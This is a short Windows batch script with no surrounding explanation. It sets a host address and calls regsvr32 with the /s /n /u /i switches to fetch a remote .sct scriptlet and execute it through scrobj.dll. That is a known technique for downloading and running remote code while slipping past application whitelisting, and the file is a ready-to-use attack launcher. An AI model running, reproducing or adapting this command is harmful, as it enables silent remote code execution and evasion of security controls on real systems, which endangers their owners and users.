@echo off
set h=192.0.2.7
regsvr32 /s /n /u /i:http://%h%/a.sct scrobj.dll
